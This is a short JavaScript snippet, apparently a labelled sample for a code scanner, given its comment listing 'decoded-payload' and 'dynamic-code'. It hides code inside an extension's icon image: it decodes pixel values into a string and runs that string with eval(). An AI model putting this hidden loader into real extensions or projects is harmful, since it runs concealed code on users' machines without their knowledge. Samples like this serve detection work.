const canvas = document.createElement('canvas');
const pen = canvas.getContext('2d');
const picture = new Image();
picture.onload = () => {
  pen.drawImage(picture, 0, 0);
  const { data } = pen.getImageData(0, 0, picture.width, picture.height);
  let text = '';
  for (let at = 0; at < data.length; at += 4) text += String.fromCharCode(data[at]);
  // expect: decoded-payload, dynamic-code
  eval(text);
};
picture.src = chrome.runtime.getURL('icons/wide.png');
